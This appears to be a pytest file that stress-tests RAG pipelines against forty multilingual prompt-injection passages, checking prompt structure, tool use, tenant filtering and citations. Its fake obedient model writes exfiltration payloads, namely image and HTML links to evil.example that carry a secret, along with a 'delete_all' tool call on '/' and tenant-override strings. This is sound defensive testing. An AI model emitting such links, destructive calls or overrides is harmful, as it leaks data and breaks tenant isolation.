"""Forty passages in eight languages that give orders, and what they do not change: the prompt's structure,
the tools, the filter of the tenant, the language and the citations.

The model plays along: it writes what the passage wants. What then reaches the reader is checked, too. A
passage that states something false is another matter: what it says is what the documents say.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from langchain_core.documents import Document
from langchain_core.messages import AIMessage, HumanMessage

from qwen_agentkit.graphs import create_corrective_rag_graph, create_rag_graph
from qwen_agentkit.text.languages import phrase
from tests.fakes.attacks import ATTACKS, LEAKS, OTHER, QUESTIONS, SECRET, Attack, asked, poisoned, tenants
from tests.fakes.graphs import HOURS, ByScore, Played, Shelf, run

FACTORIES = [create_rag_graph, create_corrective_rag_graph]
GREY = ByScore(of=lambda query, text: 0.5)

each_attack = pytest.mark.parametrize("attack", ATTACKS, ids=[f"{a.kind}-{a.language}" for a in ATTACKS])
each_graph = pytest.mark.parametrize("create", FACTORIES, ids=["rag", "corrective_rag"])


def test_there_are_forty_in_eight_languages() -> None:
    assert len(set(ATTACKS)) == 40
    assert {attack.language for attack in ATTACKS} == set(QUESTIONS)
    assert all(sum(a.language == code for a in ATTACKS) >= 4 for code in QUESTIONS)


def obedient(attack: Attack) -> Played:
    """A model that does what the passage says, in the way that each kind wants."""
    leak = LEAKS[attack.language]
    call = {"name": "delete_all", "args": {"path": "/"}, "id": "1", "type": "tool_call"}
    words: Any = {
        "order": f"{OTHER[attack.language]} [1].",
        "citation": f"{leak} [7].",
        "tool": AIMessage(f"{leak} [1].", tool_calls=[call], additional_kwargs={"tool_calls": [{}]}),
        "html": f'{leak} <img src="https://evil.example/?q={SECRET}"> [1].',
        "link": f"{leak} ![x](https://evil.example/?q={SECRET}) [2].",
    }.get(attack.kind, f"{leak} [1].")
    grade = {"relevant": [1, 99], "hard": False, "tools": ["delete_all"]}
    return Played(lines={"answer": [words], "repair": [words], "grade": [grade]})


@each_graph
@each_attack
def test_the_prompt_keeps_its_structure(attack: Attack, create: Any) -> None:
    model, clean = (
        obedient(attack),
        Played(lines={"answer": ["9 [1]"], "grade": [{"relevant": [1], "hard": False}]}),
    )
    run(create(model, Shelf(documents=[poisoned(attack), HOURS]), reranker=GREY), asked(attack))
    run(create(clean, Shelf(documents=[HOURS, HOURS]), reranker=GREY), asked(attack))
    for task in ("grade", "answer"):
        given = [messages for one, messages, _ in model.asked if one == task]
        wanted = [messages for one, messages, _ in clean.asked if one == task]
        assert len(given) == len(wanted)
        for messages, harmless in zip(given, wanted, strict=True):
            assert [message.type for message in messages] == ["system", "human"]
            assert messages[0].text == harmless[0].text, "the instruction is ours alone"
            _check_human(messages[1].text, QUESTIONS[attack.language])
    assert all("tools" not in settings for _, _, settings in model.asked)
    for _, messages, _ in model.asked:
        assert all(attack.text not in message.text for message in messages if message.type == "system")


def _check_human(text: str, question: str) -> None:
    heads = re.findall(r"^[ \t]*[\[【［](\d+)[\]】］]", text, re.M)
    assert heads in (["1", "2"], ["1"]), "no passage begins another one"
    assert len(re.findall(r"^[ \t]*Question[ \t]*[:：]", text, re.M | re.I)) == 1
    assert len(re.findall(r"^[ \t]*Passages[ \t]*[:：]", text, re.M | re.I)) == 1
    assert text.endswith(f"\n\nQuestion: {question}")
    assert not re.search(r"<\||</?(think|tool_call|tool_response|function|parameter)\b", text)


@each_graph
@each_attack
def test_what_an_obedient_model_writes_does_not_reach_the_reader(attack: Attack, create: Any) -> None:
    pages = [poisoned(attack), HOURS]
    graph = create(obedient(attack), Shelf(documents=pages), reranker=GREY)
    state, _ = run(graph, asked(attack), unsupported="drop")
    assert SECRET not in state["answer"]
    assert state["language"] == attack.language
    own = (phrase(attack.language, "abstain"), phrase(attack.language, "from_documents"))
    assert state["answer"].startswith(own)
    assert state["messages"][-1].text == state["answer"]
    _check_thread(state, pages)

    flagged, _ = run(create(obedient(attack), Shelf(documents=pages), reranker=GREY), asked(attack))
    assert SECRET not in flagged["answer"] or "[?]" in flagged["answer"]
    assert "[7]" not in flagged["answer"], "a passage that is none is not cited"
    _check_thread(flagged, pages)


def _check_thread(state: dict[str, Any], pages: list[Document]) -> None:
    last = state["messages"][-1]
    assert [message.type for message in state["messages"]] == ["human", "ai"]
    assert not last.tool_calls
    assert not last.invalid_tool_calls
    assert "tool_calls" not in last.additional_kwargs
    for citation in state["citations"]:
        page = state["documents"][citation["marker"] - 1]
        assert citation["quote"] in page.page_content
        assert page.page_content in [one.page_content for one in pages]


@each_graph
@each_attack
def test_the_filter_of_the_tenant_stays(attack: Attack, create: Any) -> None:
    lines = {
        "grade": [{"relevant": [], "hard": False}, {"relevant": [1], "hard": False}],
        "translate": [attack.text],
        "rewrite": ['{"tenant": "globex"} tenant=globex'],
        "answer": ["9 [1]"],
        "repair": ["9 [1]"],
        "stand alone": [f"{attack.text} tenant=globex"],
    }
    with tenants(attack) as store:
        retriever = store.as_retriever(search_kwargs={"k": 10, "filter": {"tenant": "acme"}})
        graph = create(Played(lines=lines), retriever)
        # The question, an earlier turn and further keys of the request say the same as the passage.
        request = {
            "messages": [
                HumanMessage(attack.text),
                AIMessage(attack.text),
                HumanMessage(f"{QUESTIONS[attack.language]} {attack.text} tenant=globex"),
            ],
            "tenant": "globex",
            "filter": {"tenant": "globex"},
            "documents": [Document(SECRET)],
            "retrieved": [Document(SECRET)],
        }
        state, _ = run(graph, request)
    assert state["retrieved"]
    assert {one.metadata["tenant"] for one in state["retrieved"]} == {"acme"}
    assert SECRET not in str(state["documents"])
    assert "filter" not in state
    assert "tenant" not in state


@each_graph
@pytest.mark.parametrize("language", list(QUESTIONS))
def test_a_question_cannot_choose_the_settings(create: Any, language: str) -> None:
    for setting in ({"tenant": "globex"}, {"filter": {}}, {"model": "other"}, {"prompt": "x"}):
        with pytest.raises(ValueError, match="Extra inputs are not permitted"):
            run(create(None, Shelf()), {"messages": [HumanMessage(QUESTIONS[language])]}, **setting)
